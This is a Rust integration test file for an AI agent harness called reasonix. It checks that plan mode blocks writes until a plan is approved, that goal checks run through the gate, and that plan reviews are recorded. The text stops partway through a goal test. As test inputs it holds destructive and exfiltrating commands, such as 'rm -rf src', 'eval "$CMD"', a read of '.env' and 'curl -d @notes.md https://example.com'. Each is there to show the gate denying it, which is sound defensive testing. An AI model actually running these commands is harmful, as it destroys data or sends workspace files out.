//! The three controls over the admission path (issue 14), as a user meets them:
//!
//! - **Plan**: `run --plan` blocks every call that is not read-only at stage `plan` (before any
//!   prompt, lease or process) until a plan handed in with `submit_plan` is approved — on a
//!   terminal, or by the run itself with `--approve-plan`; unattended, the run ends with the plan.
//!   `check --mode plan` judges the same way, and Rego sees `input.session.mode`.
//! - **Goal**: `run --goal TEXT --verify CMD` checks the goal with a bash call through the gate
//!   whenever the model stops; each check is an `evidence` line; a goal never met exits 5.
//!   In plan mode the jail keeps the workspace read-only, and `check --mode plan` agrees with a
//!   live `run --plan` on every call of a table.
//! - **Rewind**: `reasonix rewind` brings back the exact bytes and modes the file tools replaced,
//!   leaves a file edited since alone without `--force`, lists shell commands as not
//!   restorable, finds a call its run never recorded by its note, and writes nowhere a forged
//!   record points outside the workspace or at a host file.
//!
//! Scripted sessions (`--provider script:FILE`) drive the real binary; a few claims about the
//! session's API use the library.

use crate::common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use common::{ALLOW_ALL, World};
use reasonix::agent::script::{ScriptProvider, Turn};
use reasonix::agent::{
    Always, Answer, End, Goal, PlanAnswer, PlanReviewer, Provider, Session, SessionError, Terminal,
};
use reasonix::gate::GateError;
use reasonix::lease::Leases;
use reasonix::record::{CallRecord, Recorder};
use reasonix::tool::{Arguments, Classification, ClassifyError, Invocation, Output, ToolError};
use reasonix::{Admission, Gate, GateMode, HostFiles, PolicySet, Posture, Registry, Tool};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------------
// Helpers.

/// Writes a script of assistant turns in the world's root and returns `script:PATH`.
fn script(w: &World, name: &str, turns: Value) -> String {
    let path = w.root.join(name);
    std::fs::write(&path, turns.to_string()).unwrap();
    format!("script:{}", path.display())
}

/// `reasonix run` on a script in the workspace, unattended (stdin is not a terminal), with the
/// allow-all policy unless `extra` names another.
fn run(w: &World, turns: Value, extra: &[&str]) -> (i32, String, String) {
    let provider = script(w, "session.json", turns);
    let allow = w.policy("allow.yaml", ALLOW_ALL);
    let ws = w.ws.to_str().unwrap().to_owned();
    let mut args = vec!["run", "--provider", &provider, "--workspace", &ws];
    if !extra.contains(&"--policy") {
        args.extend(["--policy", &allow]);
    }
    args.extend_from_slice(extra);
    args.push("go");
    w.run(&args, "")
}

/// `reasonix run` with stdin on a pseudo-terminal that has `typed` waiting, and the embedded
/// default policy (writers ask).
fn run_on_terminal(w: &World, turns: Value, extra: &[&str], typed: &str) -> (i32, String, String) {
    use std::io::Write as _;
    let provider = script(w, "session.json", turns);
    let pty = nix::pty::openpty(None, None).unwrap();
    let mut master = std::fs::File::from(pty.master);
    master.write_all(typed.as_bytes()).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_reasonix"))
        .args(["run", "--provider", &provider, "--workspace"])
        .arg(&w.ws)
        .args(extra)
        .arg("go")
        .stdin(Stdio::from(pty.slave))
        .env("HOME", &w.home)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn record_path(w: &World) -> PathBuf {
    w.ws.join(".reasonix/record.jsonl")
}

fn record(w: &World) -> Vec<Value> {
    common::jsonl(&record_path(w))
}

/// The record's call lines.
fn calls(w: &World) -> Vec<Value> {
    record(w)
        .into_iter()
        .filter(|l| l.get("outcome").is_some() && l.get("event").is_none())
        .collect()
}

/// The record's lines of one event.
fn events(w: &World, event: &str) -> Vec<Value> {
    record(w)
        .into_iter()
        .filter(|l| l["event"] == event)
        .collect()
}

fn call<'a>(calls: &'a [Value], id: &str) -> &'a Value {
    calls
        .iter()
        .find(|c| c["call_id"] == id)
        .unwrap_or_else(|| panic!("no call {id} in {calls:#?}"))
}

fn mode_of(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// `reasonix rewind --workspace WS ARGS…`.
fn rewind(w: &World, args: &[&str]) -> (i32, String, String) {
    let ws = w.ws.to_str().unwrap().to_owned();
    let mut all = vec!["rewind", "--workspace", ws.as_str()];
    all.extend_from_slice(args);
    w.run(&all, "")
}

/// Shows nothing.
struct Quiet;

impl Terminal for Quiet {
    fn text(&self, _delta: &str) {}
    fn call(&self, _admission: &Admission, _record: &CallRecord) {}
}

/// Answers plans from a list, in order.
struct Reviews(Mutex<Vec<PlanAnswer>>);

impl PlanReviewer for Reviews {
    fn review(&self, _plan: &str) -> PlanAnswer {
        self.0.lock().unwrap().remove(0)
    }
}

fn provider(turns: Value) -> Arc<dyn Provider> {
    let turns: Vec<Turn> = serde_json::from_value(turns).unwrap();
    Arc::new(ScriptProvider::new("test", turns))
}

fn gate(w: &World, mode: GateMode) -> Arc<Gate> {
    let policy = PolicySet::from_yaml("allow.yaml", ALLOW_ALL).unwrap();
    Arc::new(
        Gate::builder(Registry::with_builtins(), &policy, &w.ws)
            .posture(Posture::Unattended)
            .mode(mode)
            .host_files(HostFiles::for_workspace(&w.ws))
            .build()
            .unwrap(),
    )
}

/// A session over `gate` with its record in the world's root.
fn session(w: &World, gate: Arc<Gate>, turns: Value) -> (Session, PathBuf) {
    let record = w.root.join("record.jsonl");
    let session = Session::new(
        gate,
        provider(turns),
        Arc::new(Always(Answer::Deny)),
        Arc::new(
            Recorder::open(&record, reasonix::seal::Signing::Unsigned("a test".into())).unwrap(),
        ),
        Leases::new(),
        Arc::new(Quiet),
        10,
        16 * 1024,
    );
    (session, record)
}

// ---------------------------------------------------------------------------------------------
// Plan.

#[test]
fn a_write_is_blocked_at_stage_plan_while_a_read_runs() {
    let w = World::new();
    w.file("a.txt", "alpha\n");
    let (code, _, stderr) = run(
        &w,
        json!([
            {"tool_calls": [
                {"name": "read_file", "arguments": {"path": "a.txt"}},
                {"name": "write_file", "arguments": {"path": "b.txt", "content": "b"}},
                {"name": "bash", "arguments": {"command": "touch c.txt"}},
                {"name": "bash", "arguments": {"command": "ls"}}
            ]},
            {"text": "I will wait for the plan."}
        ]),
        &["--plan"],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(!w.ws.join("b.txt").exists(), "the write did not run");
    assert!(!w.ws.join("c.txt").exists(), "the command did not run");
    let calls = calls(&w);
    let read = call(&calls, "call_1_0");
    assert_eq!(read["outcome"], "succeeded");
    assert_eq!(read["admission"]["stage"], "policy");
    for id in ["call_1_1", "call_1_2"] {
        let c = call(&calls, id);
        assert_eq!(c["outcome"], "blocked", "{c}");
        assert_eq!(c["admission"]["verdict"], "deny");
        assert_eq!(c["admission"]["stage"], "plan");
        assert!(
            c["admission"]["reasons"][0]
                .as_str()
                .unwrap()
                .starts_with("plan mode: changes wait for an approved plan"),
            "{c}"
        );
        // Nothing was asked, leased or started.
        assert!(c["approval"].is_null() && c["lease"].is_null() && c["started_ms"].is_null());
    }
    // A read-only command runs in plan mode.
    assert_eq!(call(&calls, "call_1_3")["outcome"], "succeeded");
    assert!(stderr.contains("blocked   write_file b.txt"), "{stderr}");
}

#[test]
fn a_plan_approved_on_a_terminal_lets_the_write_run_and_nobody_is_asked_before() {
    let w = World::new();
    let (code, _, stderr) = run_on_terminal(
        &w,
        json!([
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "early"}}]},
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "1. write b.txt\n2. nothing else"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "planned"}}]},
            {"text": "done"}
        ]),
        &["--plan"],
        "a\no\n",
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(!stderr.contains("running unattended"), "{stderr}");
    assert!(stderr.contains("The model hands in its plan:"), "{stderr}");
    assert!(stderr.contains("│ 1. write b.txt"), "{stderr}");
    assert_eq!(stderr.matches("Approve the plan?").count(), 1, "{stderr}");
    // The blocked write was never put to the person; the one after approval was.
    assert_eq!(stderr.matches("Run it?").count(), 1, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("b.txt")).unwrap(),
        "planned"
    );
    let calls = calls(&w);
    assert_eq!(call(&calls, "call_1_0")["admission"]["stage"], "plan");
    assert!(call(&calls, "call_1_0")["approval"].is_null());
    let after = call(&calls, "call_3_0");
    assert_eq!(after["outcome"], "succeeded");
    assert_eq!(after["approval"], "allow_once");
    let plans = events(&w, "plan");
    assert_eq!(plans.len(), 1);
    assert_eq!(plans[0]["decision"], "approved");
    assert_eq!(plans[0]["by"], "person");
    assert_eq!(plans[0]["plan"], "1. write b.txt\n2. nothing else");
    assert_eq!(plans[0]["call_id"], "call_2_0");
}

#[test]
fn a_plan_rejected_on_a_terminal_with_feedback_stays_in_plan_mode_until_one_is_approved() {
    let w = World::new();
    let (code, _, stderr) = run_on_terminal(
        &w,
        json!([
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "v1: write b.txt"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "early"}}]},
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "v2: test, then write b.txt"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "planned"}}]},
            {"text": "done"}
        ]),
        &["--plan"],
        "r\nadd a test first\na\no\n",
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("Feedback for the model"), "{stderr}");
    assert!(stderr.contains("rejected — add a test first"), "{stderr}");
    let calls = calls(&w);
    assert_eq!(call(&calls, "call_2_0")["admission"]["stage"], "plan");
    assert_eq!(call(&calls, "call_4_0")["outcome"], "succeeded");
    assert_eq!(
        std::fs::read_to_string(w.ws.join("b.txt")).unwrap(),
        "planned"
    );
    let plans = events(&w, "plan");
    assert_eq!(
        (plans[0]["decision"].as_str(), plans[0]["feedback"].as_str()),
        (Some("rejected"), Some("add a test first"))
    );
    assert_eq!(plans[1]["decision"], "approved");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rejected_plan_sends_the_feedback_to_the_model_and_changes_stay_blocked() {
    let w = World::new();
    let (session, record) = session(
        &w,
        gate(&w, GateMode::Plan),
        json!([
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "v1"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "x.txt", "content": "x"}}]},
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "v2"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "x.txt", "content": "x"}}]}
        ]),
    );
    let reviews = Reviews(Mutex::new(vec![
        PlanAnswer::Reject("add a test first".into()),
        PlanAnswer::Approve,
    ]));
    let mut session = session
        .plan(Arc::new(reviews), gate(&w, GateMode::Normal))
        .unwrap();
    assert_eq!(session.mode(), GateMode::Plan);
    assert_eq!(session.run("go").await.unwrap(), End::Finished);
    assert_eq!(session.mode(), GateMode::Normal);
    let told: Vec<String> = session
        .messages()
        .iter()
        .filter_map(|m| match m {
            reasonix::agent::Message::Tool { content, .. } => Some(content.clone()),
            _ => None,
        })
        .collect();
    assert!(
        told[0].starts_with("rejected:") && told[0].contains("add a test first"),
        "{told:?}"
    );
    assert!(told[1].contains("at stage plan"), "still blocked: {told:?}");
    assert!(told[2].starts_with("approved:"), "{told:?}");
    assert!(told[3].starts_with("wrote"), "{told:?}");
    assert_eq!(std::fs::read_to_string(w.ws.join("x.txt")).unwrap(), "x");
    let plans: Vec<Value> = common::jsonl(&record)
        .into_iter()
        .filter(|l| l["event"] == "plan")
        .collect();
    assert_eq!(plans[0]["decision"], "rejected");
    assert_eq!(plans[0]["feedback"], "add a test first");
    assert_eq!(plans[1]["decision"], "approved");
    assert_eq!(plans[1]["plan"], "v2");
}

#[test]
fn an_unattended_plan_run_ends_with_the_plan_printed_and_recorded() {
    let w = World::new();
    w.file("a.txt", "alpha\n");
    let plan = "1. rename a.txt to b.txt\n2. update the docs";
    let (code, stdout, stderr) = run(
        &w,
        json!([
            {"tool_calls": [{"name": "read_file", "arguments": {"path": "a.txt"}}]},
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": plan}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "b"}}]}
        ]),
        &["--plan"],
    );
    assert_eq!(code, 0, "propose, don't touch: {stderr}");
    assert!(stdout.contains(plan), "{stdout}");
    assert!(stderr.contains("no change was admitted"), "{stderr}");
    assert!(
        !w.ws.join("b.txt").exists(),
        "the turn after the plan never came"
    );
    let plans = events(&w, "plan");
    assert_eq!(plans.len(), 1);
    assert_eq!(plans[0]["decision"], "unreviewed");
    assert!(plans[0]["by"].is_null());
    assert_eq!(plans[0]["plan"], plan);
    assert_eq!(
        plans[0]["plan_sha256"],
        reasonix::record::sha256(plan.as_bytes())
    );
    let last = record(&w).pop().unwrap();
    assert_eq!(last["event"], "run_ended");
    assert_eq!(last["detail"], "plan_submitted");
    assert_eq!(calls(&w).len(), 2, "no call after the plan");
}

#[test]
fn approve_plan_lets_an_unattended_run_approve_its_own_plan_and_go_on() {
    let w = World::new();
    let (code, _, stderr) = run(
        &w,
        json!([
            {"tool_calls": [{"name": "submit_plan", "arguments": {"plan": "write b.txt"}}]},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "b"}}]},
            {"text": "done"}
        ]),
        &["--plan", "--approve-plan"],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(std::fs::read_to_string(w.ws.join("b.txt")).unwrap(), "b");
    let plans = events(&w, "plan");
    assert_eq!(plans[0]["decision"], "approved");
    assert_eq!(plans[0]["by"], "approve_plan");
    assert!(stderr.contains("approved by the run itself"), "{stderr}");

    // Without --plan it is a usage error.
    let (code, _, stderr) = run(&w, json!([]), &["--approve-plan"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--plan"), "{stderr}");
}

#[test]
fn check_mode_plan_judges_calls_as_plan_mode_would() {
    let w = World::new();
    w.file("a.txt", "alpha\n");
    let plan = ["--mode", "plan"];
    for (call, verdict, stage) in [
        (
            json!({"name":"read_file","arguments":{"path":"a.txt"}}),
            "allow",
            "policy",
        ),
        (
            json!({"name":"bash","arguments":{"command":"grep -n alpha a.txt"}}),
            "allow",
            "policy",
        ),
        (
            json!({"name":"submit_plan","arguments":{"plan":"x"}}),
            "allow",
            "policy",
        ),
        (
            json!({"name":"write_file","arguments":{"path":"a.txt","content":"x"}}),
            "deny",
            "plan",
        ),
        (
            json!({"name":"delete_file","arguments":{"path":"a.txt"}}),
            "deny",
            "plan",
        ),
        (
            json!({"name":"bash","arguments":{"command":"rm -rf build"}}),
            "deny",
            "plan",
        ),
        // A policy deny keeps its own stage and reason: it would not run after approval either.
        (
            json!({"name":"write_file","arguments":{"path":".env","content":"x"}}),
            "deny",
            "policy",
        ),
        (
            json!({"name":"write_file","arguments":{"path":"../out","content":"x"}}),
            "deny",
            "sandbox",
        ),
    ] {
        let (code, v) = w.check(&call, &plan);
        assert_eq!(
            (v["verdict"].as_str(), v["stage"].as_str()),
            (Some(verdict), Some(stage)),
            "{call}: {v}"
        );
        assert_eq!(code, if verdict == "allow" { 0 } else { 20 }, "{call}");
    }
    // A plan is not empty, not past 65536 characters, and nothing but a plan.
    for bad in [
        json!({"plan": ""}),
        json!({"plan": "x".repeat(65537)}),
        json!({"plan": "x", "paths": ["a"]}),
        json!({}),
    ] {
        let (code, v) = w.check(&json!({"name": "submit_plan", "arguments": bad}), &plan);
        assert_eq!((code, v["stage"].as_str()), (30, Some("validate")), "{v}");
    }
    // The same write in normal mode asks (the default's fallback); submit_plan does not exist.
    let (_, v) = w.check(
        &json!({"name":"write_file","arguments":{"path":"a.txt","content":"x"}}),
        &[],
    );
    assert_eq!(v["verdict"], "ask");
    let (code, v) = w.check(&json!({"name":"submit_plan","arguments":{"plan":"x"}}), &[]);
    assert_eq!((code, v["verdict"].as_str()), (30, Some("invalid")));
}

#[test]
fn check_mode_plan_and_a_live_plan_run_agree_on_every_call() {
    let w = World::new();
    w.file("src/main.rs", "fn main() {}\n");
    w.file(".env", "TOKEN=x\n");
    let bash = |c: &str| json!({"name": "bash", "arguments": {"command": c}});
    let cases = [
        json!({"name": "read_file", "arguments": {"path": "src/main.rs"}}),
        json!({"name": "list_dir", "arguments": {"path": "."}}),
        json!({"name": "grep", "arguments": {"pattern": "main", "path": "src"}}),
        json!({"name": "glob", "arguments": {"pattern": "**/*.rs"}}),
        json!({"name": "write_file", "arguments": {"path": "src/new.rs", "content": "x"}}),
        json!({"name": "edit_file", "arguments": {"path": "src/main.rs", "old_string": "main", "new_string": "start"}}),
        json!({"name": "move_file", "arguments": {"source_path": "src/main.rs", "destination_path": "src/bin.rs"}}),
        json!({"name": "delete_file", "arguments": {"path": "src/main.rs"}}),
        bash("ls src"),
        bash("cat src/main.rs | wc -l"),
        bash("touch src/made.rs"),
        bash("rm -rf src"),
        bash("eval \"$CMD\""),
        json!({"name": "read_file", "arguments": {"path": ".env"}}),
        json!({"name": "write_file", "arguments": {"path": "../escape.txt", "content": "x"}}),
        json!({"name": "nope", "arguments": {}}),
        json!({"name": "submit_plan", "arguments": {"plan": "1. rename main"}}),
    ];
    let policy = ["--policy", "builtin:default"];
    let checked: Vec<(String, String)> = cases
        .iter()
        .map(|call| {
            let (_, v) = w.check(
                call,
                &[&policy[..], &["--mode", "plan", "--posture", "unattended"]].concat(),
            );
            (
                v["verdict"].as_str().unwrap().to_owned(),
                v["stage"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    // The claims the table rests on: every change is held at stage plan, reads pass.
    let at = |i: usize| (checked[i].0.as_str(), checked[i].1.as_str());
    for i in [0, 1, 2, 3] {
        assert_eq!(at(i).0, "allow", "{}", cases[i]);
    }
    for i in [4, 5, 6, 7, 10, 11, 12] {
        assert_eq!(at(i), ("deny", "plan"), "{}", cases[i]);
    }
    assert_eq!(at(8).0, "allow", "{}", cases[8]);
    assert_eq!(at(13), ("deny", "policy"));
    assert_eq!(at(14), ("deny", "sandbox"));
    assert_eq!(at(15), ("invalid", "validate"));
    assert_eq!(at(16).0, "allow");

    // The live run: one answer proposing every call, unattended, so the plan ends it.
    let (code, _, stderr) = run(
        &w,
        json!([{"tool_calls": cases}]),
        &[&policy[..], &["--plan"]].concat(),
    );
    assert_eq!(code, 0, "{stderr}");
    let ran: Vec<(String, String)> = calls(&w)
        .iter()
        .map(|c| {
            (
                c["admission"]["verdict"].as_str().unwrap().to_owned(),
                c["admission"]["stage"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(ran.len(), cases.len());
    for ((call, checked), ran) in cases.iter().zip(&checked).zip(&ran) {
        assert_eq!(
            ran, checked,
            "{call}: check --mode plan and run --plan disagree"
        );
    }
    assert_eq!(
        std::fs::read_to_string(w.ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n",
        "nothing changed"
    );
    assert!(!w.ws.join("src/new.rs").exists() && !w.ws.join("src/made.rs").exists());
    assert_eq!(events(&w, "plan")[0]["decision"], "unreviewed");
}

/// `bash -c SCRIPT` under a gate's jail, as an admitted bash call would run.
fn jailed(gate: &Gate, script: &str) -> reasonix::sandbox::jail::RunResult {
    reasonix::sandbox::jail::danger::exec_unjudged(
        gate.jail(),
        &["bash".into(), "-c".into(), script.into()],
        Some(std::time::Duration::from_secs(20)),
        reasonix::sandbox::jail::Capture::Bounded(64 * 1024),
    )
    .unwrap_or_else(|e| panic!("{script}: {e}"))
}

#[test]
fn in_plan_mode_the_jail_keeps_the_workspace_read_only_for_commands() {
    use reasonix::sandbox::jail::{self, Exit};
    if common::skip_unless(
        jail::capabilities().landlock_fs,
        "Landlock filesystem rules",
    ) {
        return;
    }
    let w = World::new();
    w.file("a.txt", "alpha\n");
    // Whatever the analysis said of a command, in plan mode the kernel refuses its writes to
    // the workspace: a "read-only" program that writes anyway gets EROFS from the jail's
    // read-only world (where a mount namespace can be made), else EACCES from Landlock, and
    // changes nothing.
    let plan = gate(&w, GateMode::Plan);
    let r = jailed(&plan, "echo changed > a.txt");
    assert_ne!(r.exit, Exit::Exited(0), "{r:?}");
    assert!(
        r.stderr.contains("Read-only file system") || r.stderr.contains("Permission denied"),
        "{}",
        r.stderr
    );
    let r = jailed(&plan, "mkdir made");
    assert_ne!(r.exit, Exit::Exited(0), "{r:?}");
    assert!(!w.ws.join("made").exists());
    assert_eq!(
        std::fs::read_to_string(w.ws.join("a.txt")).unwrap(),
        "alpha\n"
    );
    // It still reads, and its private temporary folder is its own to write.
    let r = jailed(
        &plan,
        "cat a.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
    );
    assert_eq!(r.exit, Exit::Exited(0), "{r:?}");
    assert_eq!(r.stdout, "alpha\nt\n");
    assert!(
        plan.jail()
            .enforced()
            .iter()
            .any(|e| e.contains("the workspace and write_roots are read-only")),
        "{:?}",
        plan.jail().enforced()
    );
    // The control: the same command under the normal gate's jail writes.
    let normal = gate(&w, GateMode::Normal);
    assert_eq!(
        jailed(&normal, "echo changed > a.txt").exit,
        Exit::Exited(0)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("a.txt")).unwrap(),
        "changed\n"
    );
    // check --mode plan shows the plan a command would run under.
    let (_, v) = w.check(
        &json!({"name": "bash", "arguments": {"command": "ls"}}),
        &["--mode", "plan"],
    );
    assert_eq!(v["sandbox"]["write_roots"], json!([]), "{v}");
    let (_, v) = w.check(
        &json!({"name": "bash", "arguments": {"command": "ls"}}),
        &[],
    );
    assert_eq!(
        v["sandbox"]["write_roots"][0],
        w.ws.display().to_string(),
        "{v}"
    );
}

#[test]
fn the_policy_input_says_the_mode_and_matches_its_schema() {
    let w = World::new();
    let schema: Value =
        serde_json::from_str(include_str!("../../docs/policy-input.schema.json")).unwrap();
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    for (mode, call) in [
        (
            "plan",
            json!({"name":"submit_plan","arguments":{"plan":"x"}}),
        ),
        (
            "plan",
            json!({"name":"write_file","arguments":{"path":"a","content":"x"}}),
        ),
        (
            "normal",
            json!({"name":"write_file","arguments":{"path":"a","content":"x"}}),
        ),
    ] {
        let (_, v) = w.check(&call, &["--explain", "--mode", mode]);
        let input = &v["input"];
        assert_eq!(input["session"]["mode"], mode, "{v}");
        let errors: Vec<String> = validator
            .iter_errors(input)
            .map(|e| e.to_string())
            .collect();
        assert!(errors.is_empty(), "{errors:?}\n{input:#}");
    }
}

#[test]
fn rego_sees_the_session_mode() {
    let w = World::new();
    w.file("src/main.rs", "fn main() {}\n");
    let example = concat!(env!("CARGO_MANIFEST_DIR"), "/policies/examples/plan-mode");
    let read = json!({"name":"read_file","arguments":{"path":"src/main.rs"}});
    let strict = ["--policy", example, "--posture", "strict"];
    let (code, v) = w.check(&read, &[&strict[..], &["--mode", "plan"]].concat());
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["rules"][0]["id"], "plan-reads-workspace", "{v}");
    let (code, v) = w.check(&read, &strict);
    assert_eq!(code, 20, "in normal mode the example allows nothing: {v}");
    assert_eq!(v["stage"], "approve");
}

/// A tool an embedder added under the name plan mode needs.
struct Impostor;

impl Tool for Impostor {
    fn name(&self) -> &str {
        "submit_plan"
    }
    fn description(&self) -> &str {
        "not the real one"
    }
    fn schema(&self) -> Value {
        json!({"type": "object"})
    }
    fn read_only(&self) -> bool {
        true
    }
    fn classify(&self, _: &Arguments) -> Result<Classification, ClassifyError> {
        Ok(Classification::reads(vec![]))
    }
    fn execute(&self, _: &Invocation) -> Result<Output, ToolError> {
        Ok(Output::text(""))
    }
}

#[test]
fn a_plan_gate_refuses_a_registry_that_already_has_a_submit_plan() {
    let w = World::new();
    let mut registry = Registry::with_builtins();
    registry.add(Arc::new(Impostor)).unwrap();
    let policy = PolicySet::embedded_default();
    let built = Gate::builder(registry, &policy, &w.ws)
        .mode(GateMode::Plan)
        .host_files(HostFiles::for_workspace(&w.ws))
        .build();
    assert!(matches!(built, Err(GateError::Registry(_))));
    // A normal gate over the same registry is fine: it offers no submit_plan of its own.
    let mut registry = Registry::with_builtins();
    registry.add(Arc::new(Impostor)).unwrap();
    assert!(
        Gate::builder(registry, &policy, &w.ws)
            .host_files(HostFiles::for_workspace(&w.ws))
            .build()
            .is_ok()
    );
}

#[test]
fn a_session_refuses_a_plan_over_gates_in_the_wrong_modes() {
    let w = World::new();
    let reviewer = || -> Arc<dyn PlanReviewer> { Arc::new(Reviews(Mutex::new(Vec::new()))) };
    let (s, _) = session(&w, gate(&w, GateMode::Normal), json!([]));
    let e = s
        .plan(reviewer(), gate(&w, GateMode::Normal))
        .err()
        .unwrap();
    assert!(matches!(e, SessionError::Setup(_)), "{e}");
    let other = World::new();
    let (s, _) = session(&w, gate(&w, GateMode::Plan), json!([]));
    let e = s
        .plan(reviewer(), gate(&other, GateMode::Normal))
        .err()
        .unwrap();
    assert!(e.to_string().contains("another workspace"), "{e}");
}

// ---------------------------------------------------------------------------------------------
// Goal.

#[test]
fn a_goal_met_on_the_second_round_ends_the_run_with_exit_0() {
    let w = World::new();
    let (code, _, stderr) = run(
        &w,
        json!([
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "flag.txt", "content": "one\n"}}]},
            {"text": "done"},
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "flag.txt", "content": "two\n"}}]},
            {"text": "done now"}
        ]),
        &[
            "--goal",
            "flag.txt says two",
            "--verify",
            "grep -q two flag.txt",
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("the goal is met (check 2 passed)"),
        "{stderr}"
    );
    let evidence = events(&w, "evidence");
    assert_eq!(evidence.len(), 2);
    for (e, round, met, exit) in [(&evidence[0], 1, false, 1), (&evidence[1], 2, true, 0)] {
        assert_eq!(e["kind"], "verification");
        assert_eq!(e["round"], round);
        assert_eq!(e["met"], met);
        assert_eq!(e["exit_code"], exit);
        assert_eq!(e["command"], "grep -q two flag.txt");
        assert_eq!(e["goal"], "flag.txt says two");
        // The digest is of the very output the check's call line recorded.
        let c = calls(&w);
        let check = call(&c, e["call_id"].as_str().unwrap());
        assert_eq!(check["tool"], "bash");
        assert_eq!(e["output_sha256"], check["result_sha256"]);
        assert!(!check["sandbox"].is_null(), "it ran in the jail: {check}");
    }
    assert_eq!(record(&w).pop().unwrap()["detail"], "goal_met");
}

#[test]
fn a_goal_never_met_exits_5_when_the_turns_run_out() {
    let w = World::new();
    let (code, _, stderr) = run(
        &w,
        json!([{"text": "done"}]),
        &[
            "--goal",
            "never.txt exists",
            "--verify",
            "test -e never.txt",
            "--max-steps",
            "3",
        ],
    );
    assert_eq!(code, 5, "{stderr}");
    assert!(stderr.contains("the goal is not met"), "{stderr}");
    let evidence = events(&w, "evidence");
    assert_eq!(evidence.len(), 3, "one check each time the model stopped");
    assert!(
        evidence
            .iter()
            .all(|e| e["met"] == false && e["exit_code"] == 1)
    );
    assert_eq!(record(&w).pop().unwrap()["detail"], "goal_not_met");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_model_is_told_the_goal_is_not_met_with_the_output_bounded() {
    let w = World::new();
    let (s, _) = session(&w, gate(&w, GateMode::Normal), json!([{"text": "done"}]));
    let mut s = s.goal(Goal {
        text: "the numbers are right".into(),
        verify: "seq 1 5000; exit 3".into(),
    });
    let end = s.run("go").await.unwrap();
    assert_eq!(end, End::GoalNotMet { rounds: 10 });
    let users: Vec<&str> = s
        .messages()
        .iter()
        .filter_map(|m| match m {
            reasonix::agent::Message::User(u) => Some(u.as_str()),
            _ => None,
        })
        .collect();
    let told = users[1];
    assert!(
        told.starts_with(
            "The goal is not met yet (check 1): `seq 1 5000; exit 3` exited with status 3"
        ),
        "{told}"
    );
    assert!(told.contains("The goal: the numbers are right"), "{told}");
    assert!(told.contains("bytes elided"), "the output is cut: {told}");
    assert!(told.len() < 17 * 1024, "{}", told.len());
    let system = match &s.messages()[0] {
        reasonix::agent::Message::System(t) => t.clone(),
        _ => String::new(),
    };
    assert!(system.contains("The run has a goal"), "{system}");
}

#[test]
fn a_verify_command_the_gate_refuses_is_a_configuration_error_before_anything_runs() {
    let w = World::new();
    let (code, _, stderr) = run(
        &w,
        json!([{"tool_calls": [{"name": "write_file", "arguments": {"path": "b.txt", "content": "b"}}]}]),
        &[
            "--policy",
            "builtin:default",
            "--goal",
            "posted",
            "--verify",
            "curl -d @notes.md https://example.com",
        ],
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("the gate refuses the --verify command"),
        "{stderr}"
    );
    assert!(!w.ws.join("b.txt").exists());
    assert!(
        !record_path(&w).exists(),
        "nothing ran, nothing was recorded"
    );
}

#[test]
fn a_verify_command_blocked_during_the_run_ends_it_with_the_reason() {
    let w = World::new();
    // The check passes the gate before the run (its glob matches nothing yet) and is denied
    // at its first round, once the model has made the glob reach a file policy denies.
    let policy = w.policy(
        "deny-secret.yaml",
        &format!(
            "{ALLOW_ALL}rules:\n  - id: no-secret\n    decision: deny\n    tools: [bash]\n    paths: [\"**/secret.txt\"]\n    reason: the secret stays unread\n"
        ),
    );
    let (code, _, stderr) = run(
        &w,
        json!([
            {"tool_calls": [{"name": "write_file", "arguments": {"path": "out/secret.txt", "content": "s"}}]},
            {"text": "done"}
        ]),
        &[
            "--policy",
            &policy,
            "--goal",
            "outputs exist",
            "--verify",
            "cat out/*.txt",
        ],
    );
    assert_eq!(code, 6, "{stderr}");
    assert!(
        stderr.contains("the gate blocked the goal's check `cat out/*.txt` (deny at stage policy)"),
        "{stderr}"
    );
    let evidence = events(&w, "evidence");
    assert_eq!(evidence.len(), 1);
    assert_eq!(evidence[0]["outcome"], "blocked");
